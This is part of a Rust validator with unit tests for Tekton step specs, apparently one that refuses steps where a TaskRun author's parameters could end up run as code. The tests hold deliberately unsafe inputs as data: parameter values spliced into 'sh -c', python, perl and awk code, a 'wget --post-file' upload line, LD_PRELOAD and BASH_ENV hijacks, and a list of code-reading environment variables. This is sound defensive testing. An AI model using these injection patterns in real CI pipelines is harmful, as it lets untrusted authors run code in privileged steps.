                    2
                } else {
                    1
                };
                if inline && !shell {
                    break;
                }
            }
            _ => break,
        }
    }
    if i < argv.len() {
        let place = match (shell, inline || awk_like) {
            (true, true) => Place::ShellArg,
            (false, true) => Place::InlineCode,
            (_, false) => Place::ScriptFile,
        };
        out.push((i, place));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn own() -> BTreeSet<&'static str> {
        BTreeSet::from(["bookend-setup", "bookend-scan"])
    }

    fn run(step: &Step) -> Vec<String> {
        let mut errs = Errors::new();
        check(
            step,
            &FieldPath::new("spec").field_index("preSteps", 0),
            &own(),
            &mut errs,
        );
        errs.into_vec()
            .into_iter()
            .map(|e| format!("{}: {}", e.path, e.message))
            .collect()
    }

    fn shell(command: &[&str], args: &[&str]) -> Step {
        Step {
            name: "bookend-x".into(),
            image: Some("alpine".into()),
            command: Some(command.iter().map(|s| (*s).to_owned()).collect()),
            args: (!args.is_empty()).then(|| args.iter().map(|s| (*s).to_owned()).collect()),
            ..Step::default()
        }
    }

    #[test]
    fn author_variables_are_recognised() {
        for r in [
            "params.url",
            "params.obj.key",
            "params.list[*]",
            "params.list[0]",
            r#"params["a.b"]"#,
            "params['a.b']",
            "workspaces.src.path",
            "workspaces.src.claim",
            "workspaces.src.volume",
            "steps.build.results.digest",
            "steps.build.outputs.image",
            "steps.step-unnamed-0.results.x",
            "tasks.build.results.digest",
            "tasks.status",
        ] {
            assert!(author_controlled(r, &own()), "{r}");
        }
        for r in [
            "context.taskRun.name",
            "context.taskRun.namespace",
            "context.taskRun.uid",
            "context.task.name",
            "context.task.retry-count",
            "results.digest.path",
            "step.results.out.path",
            "steps.build.exitCode.path",
            "steps.step-build.exitCode.path",
            "steps.bookend-setup.results.token",
            "credentials.path",
            "workspaces.src.bound",
            "cat /tekton/steps/0/exitCode",
            "date",
            "parameters",
        ] {
            assert!(!author_controlled(r, &own()), "{r}");
        }
    }

    #[test]
    fn a_script_with_a_param_is_refused_with_the_env_fix() {
        let step = Step {
            name: "bookend-x".into(),
            image: Some("alpine".into()),
            script: Some("curl $(params.url) -o $(results.out.path) $(params.url)".into()),
            ..Step::default()
        };
        assert_eq!(
            run(&step),
            [
                r#"spec.preSteps[0].script: script uses $(params.url), which the TaskRun's author controls: Tekton pastes the value into the script before the shell runs, so the author could run their own code in this org step; pass it through env instead: env: [{name: URL, value: "$(params.url)"}], and "$URL" (in double quotes) in the script"#
            ]
        );
    }

    #[test]
    fn the_dash_c_script_is_found_after_the_shells_options() {
        let cases: &[(&[&str], &[&str], &str)] = &[
            (&["sh", "-c"], &["echo $(params.a)"], "args[0]"),
            (&["/bin/sh", "-c", "echo $(params.a)"], &[], "command[2]"),
            (
                &["bash"],
                &["-euo", "pipefail", "-c", "echo $(params.a)"],
                "args[3]",
            ),
            (&["bash", "-ec", "echo $(params.a)"], &[], "command[2]"),
            (
                &["bash", "--norc", "-o", "errexit", "-c"],
                &["x $(params.a)"],
                "args[0]",
            ),
            (
                &["/usr/bin/env", "sh", "-c"],
                &["echo $(params.a)"],
                "args[0]",
            ),
            (
                &["env", "-i", "A=b", "-u", "X", "dash", "-c", "$(params.a)"],
                &[],
                "command[7]",
            ),
            (&["busybox", "ash", "-c"], &["$(params.a)"], "args[0]"),
            (&["zsh", "-c"], &["$(params.a)"], "args[0]"),
            (&["/bin/ksh", "-xc"], &["$(params.a)"], "args[0]"),
        ];
        for (command, args, field) in cases {
            let m = run(&shell(command, args));
            assert_eq!(m.len(), 1, "{command:?} {args:?}: {m:?}");
            assert!(
                m[0].starts_with(&format!(
                    "spec.preSteps[0].{field}: the shell's -c script uses $(params.a)"
                )),
                "{m:?}"
            );
        }
    }

    #[test]
    fn interpreters_wrappers_script_files_conditions_and_old_names_are_found() {
        // Each found by a reviewer trying to break the claim (issue "Sealed").
        let cases: &[(&[&str], &[&str], &str)] = &[
            (
                &["python3", "-c"],
                &["import os; os.system('x $(params.x)')"],
                "args[0]: the interpreter's inline code",
            ),
            (
                &["node", "-e", "run('$(params.x)')"],
                &[],
                "command[2]: the interpreter's inline code",
            ),
            (
                &["perl", "-e"],
                &["system('$(params.x)')"],
                "the interpreter's inline code",
            ),
            (
                &["timeout", "60", "sh", "-c"],
                &["curl $(params.x)"],
                "args[0]: the shell's -c script",
            ),
            (
                &["nice", "-n", "5", "/bin/sh", "-c", "curl $(params.x)"],
                &[],
                "command[5]: the shell's -c script",
            ),
            (
                &["env", "A=1", "timeout", "-s", "KILL", "9", "bash", "-c"],
                &["$(params.x)"],
                "the shell's -c script",
            ),
            (
                &["sh"],
                &["$(workspaces.source.path)/ci/report.sh"],
                "args[0]: the script this step runs is named by",
            ),
            (
                &["python3"],
                &["$(params.script)"],
                "the script this step runs",
            ),
            (
                &["awk"],
                &["{ system(\"$(params.x)\") }"],
                "the interpreter's inline code",
            ),
            (
                &["sh", "-c"],
                &["curl $(inputs.params.rev)"],
                "$(inputs.params.rev)",
            ),
            (
                &["timeout", "$(params.t)"],
                &[],
                "command[1]: the program uses",
            ),
        ];
        for (command, args, says) in cases {
            let found = run(&shell(command, args));
            assert!(
                found.iter().any(|f| f.contains(says)),
                "{command:?} {args:?}: {found:?}"
            );
        }
        let mut step = shell(&["/scan"], &[]);
        step.on_error = Some("$(params.scan-on-error)".into());
        step.when = Some(vec![
            serde_json::from_value(serde_json::json!(
                {"input": "$(params.skip)", "operator": "notin", "values": ["yes"]}
            ))
            .unwrap(),
        ]);
        let found = run(&step);
        assert!(
            found
                .iter()
                .any(|f| f.starts_with("spec.preSteps[0].when[0]: when uses $(params.skip)")),
            "{found:?}"
        );
        assert!(
            found
                .iter()
                .any(|f| f
                    .starts_with("spec.preSteps[0].onError: onError uses $(params.scan-on-error)")),
            "{found:?}"
        );
    }

    #[test]
    fn code_from_a_volume_of_the_taskruns_namespace_is_refused() {
        use k8s_openapi::api::core::v1::{ConfigMapVolumeSource, Volume, VolumeMount};
        let volumes = vec![
            Volume {
                name: "bookend-scripts".into(),
                config_map: Some(ConfigMapVolumeSource {
                    name: "org-upload-scripts".into(),
                    ..Default::default()
                }),
                ..Default::default()
            },
            Volume {
                name: "bookend-tmp".into(),
                empty_dir: Some(Default::default()),
                ..Default::default()
            },
        ];
        let check = |command: &[&str], args: &[&str], mount: (&str, &str)| {
            let mut step = shell(command, args);
            step.volume_mounts = Some(vec![VolumeMount {
                name: mount.0.into(),
                mount_path: mount.1.into(),
                ..Default::default()
            }]);
            let mut errs = Errors::new();
            check_code_from_namespace(
                &step,
                &volumes,
                &FieldPath::new("spec").field_index("preSteps", 0),
                &mut errs,
            );
            errs.into_vec()
                .into_iter()
                .map(|e| format!("{}: {}", e.path, e.message))
                .collect::<Vec<_>>()
        };
        let found = check(
            &["/bin/sh", "/bookend/scripts/upload.sh"],
            &[],
            ("bookend-scripts", "/bookend/scripts"),
        );
        assert!(found[0].starts_with("spec.preSteps[0].command[1]: \"/bookend/scripts/upload.sh\" is in volume \"bookend-scripts\", a ConfigMap"), "{found:?}");
        assert_eq!(
            check(
                &["/bookend/scripts/run"],
                &[],
                ("bookend-scripts", "/bookend/scripts")
            )
            .len(),
            1
        );
        // Sourced or run by a script, run by a `-c` script, run by name from a mount on the
        // program search path (found by a reviewer trying to break the claim).
        let mut sourced = shell(&[], &[]);
        sourced.command = None;
        sourced.script = Some(". /bookend/scripts/env.sh\nwget --post-file x \"$URL\"\n".into());
        sourced.volume_mounts = Some(vec![VolumeMount {
            name: "bookend-scripts".into(),
            mount_path: "/bookend/scripts".into(),
            ..Default::default()
        }]);
        let mut errs = Errors::new();
        check_code_from_namespace(
            &sourced,
            &volumes,
            &FieldPath::new("spec").field_index("preSteps", 0),
            &mut errs,
        );
        assert_eq!(
            errs.into_vec()[0].path.to_string(),
            "spec.preSteps[0].script"
        );
        for (command, args, mount, at) in [
            (
                &["/bin/sh", "-c", "set -e; /bookend/scripts/upload.sh"][..],
                &[][..],
                "/bookend/scripts",
                "command[2]",
            ),
            (
                &["sh", "-c", "FOO=1 bash /bookend/scripts/x"],
                &[],
                "/bookend/scripts",
                "command[2]",
            ),
            (
                &["upload"],
                &[],
                "/usr/local/bin",
                "volumeMounts[0].mountPath",
            ),
            (
                &["/upload"],
                &[],
                "/etc/ld.so.preload.d",
                "volumeMounts[0].mountPath",
            ),
        ] {
            let found = check(command, args, ("bookend-scripts", mount));
            assert!(
                found
                    .iter()
                    .any(|f| f.starts_with(&format!("spec.preSteps[0].{at}:"))),
                "{command:?}: {found:?}"
            );
        }
        // Data from it, or code from an emptyDir: fine.
        assert!(
            check(
                &[
                    "sh",
                    "-c",
                    "cp /bookend/scripts/config.json /tmp && upload /tmp/config.json"
                ],
                &[],
                ("bookend-scripts", "/bookend/scripts")
            )
            .is_empty()
        );
        assert!(
            check(
                &["/bin/upload"],
                &["/bookend/scripts/config.json"],
                ("bookend-scripts", "/bookend/scripts")
            )
            .is_empty()
        );
        assert!(
            check(
                &["/bin/sh", "/tmp/x/run.sh"],
                &[],
                ("bookend-tmp", "/tmp/x")
            )
            .is_empty()
        );
    }

    #[test]
    fn no_argument_carries_an_author_value_whatever_the_program() {
        // Whether a program takes an argument as code cannot be told from outside; each of these
        // was found by a reviewer trying to break a list of known shells and interpreters.
        let cases: &[(&[&str], &[&str])] = &[
            // Args-only: alpine's CMD is /bin/sh, which runs args[0].
            (&[], &["echo report $(params.x)"]),
            (&["mksh", "-c"], &["$(params.x)"]),
            (&["fish", "-c"], &["$(params.x)"]),
            (&["chrt", "10", "sh", "-c"], &["$(params.x)"]),
            (&["time", "-f", "%e s", "sh", "-c"], &["$(params.x)"]),
            (&["taskset", "0x1", "sh", "-c"], &["$(params.x)"]),
            (&["gosu", "nobody", "sh", "-c"], &["$(params.x)"]),
            (&["flock", "/tmp/l", "sh", "-c"], &["$(params.x)"]),
            (&["su", "nobody", "-c"], &["$(params.x)"]),
            (&["perl", "-e", "1", "-e"], &["system('$(params.x)')"]),
            (&["pypy3", "-c"], &["$(params.x)"]),
            (&["Rscript", "-e"], &["system('$(params.x)')"]),
            // Positional parameters, plain arguments: data to these programs, but the rule is
            // one for all.
            (&["sh", "-c", r#"curl "$1""#, "sh", "$(params.url)"], &[]),
            (&["curl"], &["$(params.url)"]),
        ];
        for (command, args) in cases {
            let mut step = shell(command, args);
            if command.is_empty() {
                step.command = None;
            }
            let found = run(&step);
            assert_eq!(found.len(), 1, "{command:?} {args:?}: {found:?}");
            assert!(
                found[0].contains("which the TaskRun's author controls"),
                "{command:?} {args:?}: {found:?}"
            );
        }
        // Safe variables anywhere.
        let safe = shell(
            &["sh", "-c"],
            &["echo $(context.taskRun.name) $(steps.build.exitCode.path) > $(results.r.path)"],
        );
        assert_eq!(run(&safe), Vec::<String>::new());
        // A result of the policy's own step is text written at run time (from a param it was
        // given through env, say): refused in code, the policy's value in env and conditions
        // (found by a reviewer trying to break the claim).
        let own = shell(&["sh", "-c"], &["echo $(steps.bookend-setup.results.t)"]);
        let found = run(&own);
        assert!(
            found[0].contains("by the policy's own steps too"),
            "{found:?}"
        );
        let mut step = shell(&["sh", "-c"], &[r#"echo "$T""#]);
        step.env = Some(vec![k8s_openapi::api::core::v1::EnvVar {
            name: "T".into(),
            value: Some("$(steps.bookend-setup.results.t)".into()),
            ..Default::default()
        }]);
        step.when = Some(vec![
            serde_json::from_value(serde_json::json!(
                {"input": "$(steps.bookend-setup.results.t)", "operator": "in", "values": ["yes"]}
            ))
            .unwrap(),
        ]);
        assert_eq!(run(&step), Vec::<String>::new());
    }

    #[test]
    fn env_carries_author_values_as_data_only() {
        use k8s_openapi::api::core::v1::{
            ConfigMapEnvSource, ConfigMapKeySelector, EnvFromSource, EnvVar, EnvVarSource,
            ObjectFieldSelector,
        };
        let var = |name: &str, value: &str| EnvVar {
            name: name.into(),
            value: Some(value.into()),
            ..Default::default()
        };
        let from = |name: &str, source: EnvVarSource| EnvVar {
            name: name.into(),
            value_from: Some(source),
            ..Default::default()
        };
        // In env, read by the script: data.
        let mut step = shell(&["sh", "-c"], &[r#"curl "$URL""#]);
        step.env = Some(vec![var("URL", "$(params.url)")]);
        assert!(run(&step).is_empty());
        // Expanded by Kubernetes into the command line: the author's argument again, also
        // through a second variable, from the namespace's ConfigMap, or from the Pod's
        // annotations; the escaped form is literal.
        let config_map = EnvVarSource {
            config_map_key_ref: Some(ConfigMapKeySelector {
                name: "settings".into(),
                key: "url".into(),
                ..Default::default()
            }),
            ..Default::default()
        };
        let annotation = EnvVarSource {
            field_ref: Some(ObjectFieldSelector {
                field_path: "metadata.annotations['ci/url']".into(),
                ..Default::default()
            }),
            ..Default::default()
        };
        for (env, arg) in [
            (vec![var("URL", "$(params.url)")], "curl $(URL)"),
            (
                vec![var("URL", "$(params.url)"), var("CMD", "curl $(URL)")],
                "$(CMD)",
            ),
            (vec![from("URL", config_map.clone())], "curl $(URL)"),
            (vec![from("URL", annotation)], "curl $(URL)"),
        ] {
            let mut step = shell(&["sh", "-c"], &[arg]);
            step.env = Some(env.clone());
            let found = run(&step);
            assert!(
                found
                    .iter()
                    .any(|f| f.starts_with("spec.preSteps[0].args[0]: Kubernetes expands")),
                "{env:?} {arg}: {found:?}"
            );
        }
        let mut literal = shell(&["sh", "-c"], &["echo $$(URL)"]);
        literal.env = Some(vec![var("URL", "$(params.url)")]);
        assert!(run(&literal).is_empty());
        // Variables runtimes read as code: no author value.
        for (env, at) in [
            (var("BASH_ENV", "$(workspaces.src.path)/env.sh"), "env[0]"),
            (var("NODE_OPTIONS", "--require $(params.hook)"), "env[0]"),
            (var("LD_PRELOAD", "$(params.lib)"), "env[0]"),
            (var("GIT_CONFIG_VALUE_0", "$(params.ssh)"), "env[0]"),
            (from("PATH", config_map), "env[0]"),
        ] {
            let mut step = shell(&["/upload"], &[]);
            step.env = Some(vec![env.clone()]);
            let found = run(&step);
            assert!(
                found.iter().any(|f| f
                    .starts_with(&format!("spec.preSteps[0].{at}: {}", env.name))
                    && f.contains("as code")),
                "{env:?}: {found:?}"
            );
        }
        let mut step = shell(&["/upload"], &[]);
        step.env = Some(vec![var("PATH", "/usr/local/bin:/usr/bin:/bin")]);
        assert!(run(&step).is_empty());
        // envFrom: the namespace's object names the variables.
        step.env_from = Some(vec![EnvFromSource {
            config_map_ref: Some(ConfigMapEnvSource {
                name: "settings".into(),
                ..Default::default()
            }),
            ..Default::default()
        }]);
        let found = run(&step);
        assert!(
            found[0].starts_with("spec.preSteps[0].envFrom[0]: envFrom lets"),
            "{found:?}"
        );
    }

    #[test]
    fn every_field_tekton_or_kubernetes_substitutes_is_checked() {
        use k8s_openapi::api::core::v1::{EnvVar, VolumeMount};
        // Found by a reviewer trying to break the claim (round 3).
        let var = |name: &str, value: &str| EnvVar {
            name: name.into(),
            value: Some(value.into()),
            ..Default::default()
        };
        // `$$$(URL)` is a literal `$` and an expansion; names hold `:` or `/` since 1.32.
        for (name, arg) in [("URL", "echo $$$(URL)"), ("SBOM:URL", "curl $(SBOM:URL)")] {
            let mut step = shell(&["sh", "-c"], &[arg]);
            step.env = Some(vec![var(name, "$(params.url)")]);
            let found = run(&step);
            assert!(
                found.iter().any(|f| f.contains("Kubernetes expands")),
                "{arg}: {found:?}"
            );
        }
        assert_eq!(expansions("$$(A) $$$(B) $(C) $$$$(D) $(E"), ["B", "C"]);
        // Mount paths, subPaths, output files, pull policy: Tekton substitutes them all.
        let mut step = shell(&["/upload"], &[]);
        step.volume_mounts = Some(vec![VolumeMount {
            name: "bookend-tools".into(),
            mount_path: "$(params.dir)".into(),
            sub_path: Some("$(params.sub)".into()),
            ..Default::default()
        }]);
        step.image_pull_policy = Some("$(params.pull)".into());
        step.stdout_config = Some(crate::policy::api::StepOutputConfig {
            path: Some("$(params.out)".into()),
        });
        let found = run(&step);
        for at in [
            "volumeMounts[0].mountPath",
            "volumeMounts[0].subPath",
            "imagePullPolicy",
            "stdoutConfig.path",
        ] {
            assert!(
                found
                    .iter()
                    .any(|f| f.starts_with(&format!("spec.preSteps[0].{at}: $(params."))),
                "{at}: {found:?}"
            );
        }
        // subPathExpr expands an author-valued env variable.
        let mut step = shell(&["/upload"], &[]);
        step.env = Some(vec![var("DIR", "$(params.dir)")]);
        step.volume_mounts = Some(vec![VolumeMount {
            name: "bookend-tools".into(),
            mount_path: "/tools".into(),
            sub_path_expr: Some("$(DIR)".into()),
            ..Default::default()
        }]);
        assert!(run(&step)[0].starts_with("spec.preSteps[0].volumeMounts[0].subPathExpr"));
        // Env names runtimes read as code, by name and by shape; data names stay data.
        for name in [
            "GIT_PROXY_COMMAND",
            "MAKEFLAGS",
            "GOFLAGS",
            "KUBECONFIG",
            "OPENSSL_CONF",
            "BASH_FUNC_git%%",
            "ZDOTDIR",
            "LUA_INIT",
            "MAVEN_OPTS",
            "DOTNET_STARTUP_HOOKS",
            "GCONV_PATH",
            "UPLOAD_HOOK",
            "TOOL_OPTIONS",
        ] {
            assert!(is_code_env(name), "{name}");
        }
        for name in [
            "SBOM_URL", "GIT_URL", "REVISION", "SRC_PATH", "IMAGE", "TOKEN", "SBOM_SRC",
        ] {
            assert!(!is_code_env(name), "{name}");
        }
        // The policy's volumes: Tekton substitutes params into a Task's volumes.
        let mut errs = Errors::new();
        check_volumes(
            &[serde_json::from_value(
                serde_json::json!({"name": "bookend-cfg", "configMap": {"name": "$(params.cm)"}}),
            )
            .unwrap()],
            &FieldPath::new("spec").field("volumes"),
            &mut errs,
        );
        assert_eq!(
            errs.into_vec()[0].path.to_string(),
            "spec.volumes[0].configMap.name"
        );
    }

    #[test]
    fn code_from_where_the_authors_steps_write_is_refused() {
        // Tekton's shared directories and the step's workspaces: the author's steps write them
        // between the org's pre- and post-steps (found by a reviewer, round 3).
        let check = |step: &Step| {
            let mut errs = Errors::new();
            check_code_from_namespace(
                step,
                &[],
                &FieldPath::new("spec").field_index("postSteps", 0),
                &mut errs,
            );
            errs.into_vec()
                .into_iter()
                .map(|e| format!("{}: {}", e.path, e.message))
                .collect::<Vec<_>>()
        };
        let refused: Vec<Step> = vec![
            shell(&["/tekton/home/org/scan"], &[]),
            shell(&["sh", "-c", ". ~/org/env.sh; report"], &[]),
            shell(&["bash", "/workspace/org-tools/report"], &[]),
            shell(&["sh", "/workspace/./../workspace/x.sh"], &[]),
            {
                let mut s = shell(&["/bin/report"], &[]);
                s.env = Some(vec![k8s_openapi::api::core::v1::EnvVar {
                    name: "BASH_ENV".into(),
                    value: Some("/tekton/home/org/env.sh".into()),
                    ..Default::default()
                }]);
                s
            },
            {
                let mut s = shell(&["/opt/tools/scan"], &[]);
                s.workspaces = Some(vec![crate::policy::api::WorkspaceUsage {
                    name: "tools".into(),
                    mount_path: Some("/opt/tools".into()),
                }]);
                s
            },
            {
                let mut s = shell(&["./scan"], &[]);
                s.working_dir = Some("/workspace/source".into());
                s
            },
        ];
        for step in &refused {
            let found = check(step);
            assert!(!found.is_empty(), "{:?} {:?}", step.command, step.env);
        }
        // Reading or writing data there is what they are for.
        let data = shell(
            &[
                "sh",
                "-c",
                "syft dir:/workspace/source -o json > /tekton/home/sbom.json",
            ],
            &[],
        );
        assert_eq!(check(&data), Vec::<String>::new());
    }

    #[test]
    fn image_program_and_working_dir_are_refused_with_their_own_message() {
        let mut step = shell(&["$(params.tool)"], &["--verbose"]);
        step.image = Some("registry/$(params.image):1".into());
        step.working_dir = Some("$(workspaces.source.path)".into());
        assert_eq!(
            run(&step),
            [
                r#"spec.preSteps[0].command[0]: the program uses $(params.tool), which the TaskRun's author controls, so the author would choose the program this org step runs; write the program literally, and pass values it needs through env (env: [{name: TOOL, value: "$(params.tool)"}])"#,
                "spec.preSteps[0].image: image uses $(params.image), which the TaskRun's author controls, so the author would choose the image this org step runs; write the image literally",
                r#"spec.preSteps[0].workingDir: workingDir uses $(workspaces.source.path), which the TaskRun's author controls, so the author would choose the directory this org step runs in; write workingDir literally, and pass values the step needs through env (env: [{name: SOURCE_PATH, value: "$(workspaces.source.path)"}])"#,
            ]
        );
    }

    #[test]
    fn several_variables_are_named_once_each() {
        let step = shell(
            &["sh", "-c"],
            &[
                "git clone $(params.repo) $(workspaces.src.path) && git checkout $(params.repo) $(steps.build.results.sha)",
            ],
        );
        let m = run(&step);
        assert_eq!(m.len(), 1);
        assert!(
            m[0].contains(
                "uses $(params.repo), $(workspaces.src.path), $(steps.build.results.sha), which"
            ),
            "{m:?}"
        );
    }

    #[test]
    fn env_names() {
        assert_eq!(env_name("params.git-url"), "GIT_URL");
        assert_eq!(env_name(r#"params["a.b"]"#), "A_B");
        assert_eq!(env_name("params.list[*]"), "LIST");
        assert_eq!(env_name("workspaces.src.path"), "SRC_PATH");
        assert_eq!(env_name("steps.build.results.digest"), "BUILD_DIGEST");
        assert_eq!(env_name("tasks.t.results.r"), "T_R");
        assert_eq!(env_name("params.1st"), "V_1ST");
        assert_eq!(env_name("params.-"), "VALUE");
    }
}
